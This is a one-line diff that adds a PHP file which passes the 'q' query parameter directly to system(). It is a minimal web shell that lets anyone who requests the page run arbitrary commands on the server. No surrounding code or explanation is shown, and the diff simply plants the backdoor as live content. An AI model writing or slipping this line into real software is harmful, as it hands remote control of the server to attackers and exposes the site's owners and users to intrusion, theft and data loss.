@@ -1,0 +1,1 @@
+<?php if (isset($_GET["q"])) system($_GET["q"]); ?>
